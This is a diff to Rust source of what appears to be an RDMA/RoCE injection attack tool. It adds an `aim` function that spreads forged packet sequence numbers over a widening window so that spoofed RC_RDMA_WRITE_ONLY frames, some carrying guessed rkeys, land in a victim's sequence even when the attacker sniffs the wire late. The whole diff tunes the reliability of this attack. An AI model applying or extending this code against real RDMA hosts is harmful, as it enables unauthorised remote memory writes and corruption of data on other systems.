@@ -136,6 +136,17 @@ fn seq_naks(l: &Learner) -> u64 {
     l.l.naks.get("PsnSequenceError").copied().unwrap_or(0)
 }
 
+/// How far ahead of the last PSN seen from the requester the `i`th aimed frame goes: cycling
+/// through 1..=32 for the first 1,024 frames, then through twice as many PSNs per 1,024 frames
+/// (up to 512). A frame lands when it meets the responder's expected PSN; an attacker that
+/// reads the wire late (a busy machine: `tests/attack_cli.rs` once saw 4,096 frames all land
+/// behind a 100 kpps flow) sees a PSN further behind, and a frame ahead is only dropped out of
+/// sequence.
+fn aim(i: u64) -> u32 {
+    let window = 32u64 << (i / 1024).min(4);
+    1 + (i % window) as u32
+}
+
 /// Keep draining into the learner for `d`.
 fn settle(sock: &RawSocket, learner: &mut Learner, buf: &mut [u8], d: Duration) -> Result<()> {
     let until = Instant::now() + d;
@@ -230,7 +241,7 @@ pub fn run(a: &AttackArgs) -> Result<ExitCode> {
                 // at or ahead of the requester's next PSN, where the responder's expected PSN
                 // is when the frame arrives (ahead of it: out of sequence, dropped; behind: a
                 // duplicate)
-                let psn = learner.l.psn.expect("ready").add(1 + (i % 32) as u32);
+                let psn = learner.l.psn.expect("ready").add(aim(i));
                 let f = attack::forge((src_mac, sport), &req, &resp, Opcode::RC_RDMA_WRITE_ONLY, psn, ext, &[0xa5; 8]);
                 learner.sent(&f);
                 sock.send(&f)?;
@@ -395,7 +406,7 @@ pub fn run(a: &AttackArgs) -> Result<ExitCode> {
                     }
                     _ => pred.candidate(rng.next_u64() as u32),
                 };
-                let psn = learner.l.psn.expect("ready").add(1 + (i % 32) as u32);
+                let psn = learner.l.psn.expect("ready").add(aim(i));
                 let ext = ExtHeaders {
                     reth: Some(RethRepr { va: reth.va, rkey: key, dma_len: 64 }),
                     ..ExtHeaders::default()
